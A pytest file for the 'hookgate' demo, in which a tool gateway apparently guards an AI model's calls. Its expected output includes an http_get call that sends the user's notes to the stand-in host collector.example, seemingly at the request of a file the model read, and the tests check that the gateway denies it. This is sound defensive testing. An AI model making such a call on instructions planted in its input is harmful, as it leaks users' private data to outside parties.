"""`make demo` shows a real gateway at work, and the README's picture shows what it prints."""

from __future__ import annotations

import html
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).parent.parent

SEEN = [
    "17*23 = 391.",
    "▸ clock {}",
    '▸ remember {"text":"my train to Bergen leaves at 18:05"}',
    '▸ recall {"query":"my train"}',
    '▸ http_get {"url":"https://collector.example/?notes=Thursday"}',
    "? May http_get run?",
    "denied: loopback denied it",
    "resolve_ask",
]


@pytest.fixture(scope="module")
def played(tmp_path_factory: pytest.TempPathFactory) -> str:
    """What the demo printed."""
    folder = tmp_path_factory.mktemp("demo")
    done = subprocess.run(
        [sys.executable, "-m", "hookgate.demo"],
        cwd=folder,
        env={**os.environ, "COLUMNS": "100", "HOME": str(folder)},
        capture_output=True,
        text=True,
        timeout=50,
        check=False,
    )
    assert (done.returncode, done.stderr) == (0, "")
    assert list(folder.iterdir()) == [], "it leaves nothing behind"
    return done.stdout


@pytest.mark.parametrize("line", SEEN)
@pytest.mark.slow
def test_the_demo_shows(played: str, line: str) -> None:
    assert line in played


@pytest.mark.slow
def test_the_model_in_the_demo_finds_what_it_has_noted(played: str) -> None:
    recalled = played.partition("What I find in my memory")[2]

    assert "leaves at 18:05" in recalled


@pytest.mark.slow
def test_what_the_file_asks_for_is_denied_before_anything_runs(played: str) -> None:
    sent = played.partition("▸ http_get")[2]

    assert sent.index("? May http_get run?") < sent.index("http_get: denied")
    assert "collector.example" not in sent.partition("What happened in that turn")[2]


@pytest.mark.slow
def test_the_waterfall_names_hook_and_plugin(played: str) -> None:
    rows = [line.split() for line in played.splitlines()]

    assert [row[2] for row in rows if len(row) > 2 and row[1] == "resolve_ask"] == ["policy"]


def test_the_picture_in_the_documentation_shows_what_the_demo_prints() -> None:
    picture = (ROOT / "docs" / "demo.svg").read_text(encoding="utf-8")
    # Each run of one style is an element of its own, and each space one that does not break.
    drawn = "".join(html.unescape("".join(re.findall(r"<text[^>]*>([^<]*)", picture))).split())

    assert [line for line in SEEN if "".join(line.split()) not in drawn] == [], "`make picture`"
    assert "url(http" not in picture, "a picture fetches nothing"
